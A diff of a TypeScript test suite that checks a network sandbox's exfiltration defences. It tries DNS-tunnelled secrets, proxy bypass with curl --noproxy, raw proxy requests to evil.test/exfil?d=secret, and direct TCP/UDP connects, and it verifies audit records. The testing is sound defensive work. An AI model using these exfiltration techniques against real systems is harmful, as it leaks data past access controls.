@@ -1,9 +1,9 @@
 // Exfiltration: a cell whose policy allows exactly one local web server tries every other way
 // out. Every target below is a loopback server started by this file; each counts connections,
 // so "blocked" means the target saw nothing, and "recorded" means the task's audit trail holds
-// the proxy's net.denied decision (or, for attempts that never reach the proxy, the exec of the
-// attacking program with its target on the command line: the empty network namespace answers
-// those in the kernel, which emits no event of its own).
+// the proxy's net.denied decision, the DNS stub's dns.denied, or the capture's record of a
+// dropped packet (or, for attempts that never reach the proxy, such as a connect to the cell's
+// own loopback, the exec of the attacking program with its target on the command line).
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { AttackCell, HostSentinels } from './harness.js';
 import { tcpTarget, webTarget, type Target } from './servers.js';
@@ -62,32 +62,41 @@ describe('exfiltration', () => {
     const [a] = await ac.atk('tcp', '127.0.0.2', String(web.port));
     const [b] = await ac.atk('tcp', '192.0.2.1', '443');
     const [c] = await ac.atk('tcp', '127.0.0.1', String(hostLo.port));
-    expect(a!.ok || b!.ok || c!.ok).toBe(false);
-    expect(b!.errno).toBe(101); // ENETUNREACH: only loopback exists in the cell
-    await ac.execRecorded('tcp', '192.0.2.1');
+    // The cell's loopback is its own: the host's 127.0.0.x servers are not there.
+    expect(a!.ok || c!.ok).toBe(false);
+    // Any other address is captured: the connect lands on the proxy, which refuses it.
+    expect(b!.ok).toBe(true);
+    await netDenied((h, p) => h === '192.0.2.1' && p === 443);
     untouched(evil, hostLo, sidePort);
     expect(web.urls).toEqual(['/control']);
   });
 
-  it('EXF-02 leaks data through DNS: no resolver in the cell, the proxy resolves only allowed names', async () => {
+  it('EXF-02 leaks data through DNS: the stub answers only allowed names, other UDP is dropped', async () => {
     const [dns] = await ac.atk('dns', 'c2VjcmV0.exfil.evil.test');
     const [udp] = await ac.atk('udp', '192.0.2.53', '53');
     expect(dns!.ok).toBe(false);
-    expect(udp!.ok).toBe(false);
+    // The datagram leaves the socket, and the cell's capture drops it.
+    expect(udp!.ok).toBe(true);
+    await ac.recorded((e) => e.type === 'dns.denied' && e.name === 'c2VjcmV0.exfil.evil.test');
+    await netDenied((h, p) => h === '192.0.2.53' && p === 53);
     // SOCKS5 with remote DNS hands the name to the proxy: refused by name, never resolved.
     const [socks] = await ac.atk('socks', 'c2VjcmV0.exfil.test', '53');
     expect(socks!.ok).toBe(false);
     const ev = await netDenied((h) => h === 'c2vjcmv0.exfil.test' || h === 'c2VjcmV0.exfil.test');
     expect(ev.type === 'net.denied' && ev.ip).toBeFalsy(); // denied before any resolution
-    await ac.execRecorded('dns', 'exfil.evil.test');
     untouched(evil, hostLo);
   });
 
   it('EXF-03 bypasses the proxy settings, or asks the proxy for a host that is not allowed', async () => {
+    // With --noproxy the connection is captured and decided all the same: allowed here,
+    // recorded as transparent; the denied name does not even resolve.
     const bypass = await ac.sh(
-      `curl -sS --max-time 5 --noproxy '*' http://web.test:${web.port}/bypass; echo rc=$?`,
+      `curl -sS --max-time 5 --noproxy '*' http://web.test:${web.port}/bypass; echo rc=$?; ` +
+        `curl -sS --max-time 5 --noproxy '*' http://evil.test:${evil.port}/bypass; echo rc=$?`,
     );
-    expect(bypass.stdout).toMatch(/rc=[1-9]/);
+    expect(bypass.stdout).toMatch(/^ok \/bypassrc=0\n[^]*rc=6\n$/);
+    await ac.recorded((e) => e.type === 'net.allowed' && e.protocol === 'transparent-http');
+    await ac.recorded((e) => e.type === 'dns.denied' && e.name === 'evil.test');
     const [get] = await ac.atk(
       'proxy',
       `GET http://evil.test:${evil.port}/exfil?d=secret HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n`,
@@ -95,9 +104,7 @@ describe('exfiltration', () => {
     expect(get!.ok).toBe(false);
     expect(get!.out).toMatch(/403/);
     await netDenied((h) => h === 'evil.test');
-    await ac.execRecorded('curl', '--noproxy');
     untouched(evil);
-    expect(web.urls).not.toContain('/bypass');
   });
 
   it('EXF-04 uses a denied port on an allowed host', async () => {
